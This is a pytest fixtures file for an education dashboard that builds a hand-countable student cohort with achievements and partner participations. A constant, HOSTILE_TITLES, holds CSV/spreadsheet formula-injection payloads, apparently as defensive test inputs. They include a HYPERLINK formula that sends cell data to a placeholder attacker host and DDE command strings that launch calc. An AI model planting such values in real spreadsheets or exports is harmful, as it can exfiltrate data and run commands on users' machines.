"""Dashboard fixtures: a cohort with hand-countable achievements and IUR participations, a stored run.

Cohort SE 2022 (``data.cohort``): students s1–s4 plus s5 (withdrawn). Counted (verified) achievements:
a1 national project (s1, s2), a2 provincial project (s1), a3 SCI paper (s3), a4 granted patent (s1 and
t1 of SE 2023), a6 national award (s2). Not counted: a7 claimed project (s4), a8 rejected paper (s4),
a9 verified project of the withdrawn s5. SE 2023: t1, t2; a5 applied patent (t1). NUR: one verified
project of its own student. IUR: s1 at an enterprise (placement) and a research institute (joint
project), s2 at the enterprise, s5 (withdrawn) at the enterprise, s3 with a *NUR* partner (not counted).
"""

from __future__ import annotations

from types import SimpleNamespace

import pytest
from babel.messages.mofile import write_mo
from babel.messages.pofile import read_po

from eduinnov.achievements.models import (
    AchievementKind,
    Indexing,
    Level,
    PatentStatus,
    VerificationStatus,
)
from eduinnov.config import ROOT
from eduinnov.frameworks.models import ParticipationKind, PartnerKind
from eduinnov.programs.models import StudentStatus
from tests.factories import (
    make_achievement,
    make_cohort,
    make_participation,
    make_partner,
    make_student,
    verified,
)

HOSTILE_TITLES = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                  "-2+3", "\t=1+1"]


@pytest.fixture(scope="session", autouse=True)
def zh_catalogue():
    """The compiled Chinese catalogue (``make translations`` makes it; compiled here if missing)."""
    po = ROOT / "translations" / "zh" / "LC_MESSAGES" / "messages.po"
    mo = po.with_suffix(".mo")
    if not mo.exists() or mo.stat().st_mtime < po.stat().st_mtime:
        with po.open("rb") as fh:
            catalog = read_po(fh, locale="zh")
        with mo.open("wb") as fh:
            write_mo(fh, catalog)
    return mo


@pytest.fixture
def data(program, other_program, cohort, director):
    later = make_cohort(program, 2023)
    nur = make_cohort(other_program, 2022)
    s1, s2, s3, s4 = (make_student(cohort, name=f"学生{i}") for i in range(1, 5))
    s5 = make_student(cohort, name="退学生", status=StudentStatus.WITHDRAWN)
    t1, t2 = make_student(later), make_student(later)
    n1 = make_student(nur)
    A = AchievementKind
    a = {
        "a1": verified(make_achievement(program, [s1, s2], A.PROJECT, level=Level.NATIONAL), director),
        "a2": verified(make_achievement(program, [s1], A.PROJECT, level=Level.PROVINCIAL), director),
        "a3": verified(make_achievement(program, [s3], A.PUBLICATION, indexing=Indexing.SCI), director),
        "a4": verified(make_achievement(program, [s1, t1], A.PATENT, patent_status=PatentStatus.GRANTED), director),
        "a5": verified(make_achievement(program, [t1], A.PATENT, patent_status=PatentStatus.APPLIED), director),
        "a6": verified(make_achievement(program, [s2], A.AWARD, level=Level.NATIONAL), director),
        "a7": make_achievement(program, [s4], A.PROJECT, level=Level.NATIONAL),
        "a8": verified(make_achievement(program, [s4], A.PUBLICATION, indexing=Indexing.SCI), director,
                       VerificationStatus.REJECTED, "not ours"),
        "a9": verified(make_achievement(program, [s5], A.PROJECT, level=Level.UNIVERSITY), director),
        "n1": verified(make_achievement(other_program, [n1], A.PROJECT, level=Level.UNIVERSITY), director),
    }
    firm = make_partner(program, "某软件公司", PartnerKind.ENTERPRISE)
    lab = make_partner(program, "某研究所", PartnerKind.RESEARCH_INSTITUTE)
    hospital = make_partner(other_program, "某医院", PartnerKind.HOSPITAL)
    make_participation(s1, firm, "实习")
    make_participation(s1, lab, "实习", kind=ParticipationKind.JOINT_PROJECT)
    make_participation(s2, firm, "实习")
    make_participation(s5, firm, "实习")
    make_participation(s3, hospital, "实习")
    return SimpleNamespace(program=program, other_program=other_program, cohort=cohort, later=later, nur=nur,
                           students=[s1, s2, s3, s4, s5], later_students=[t1, t2], a=a)

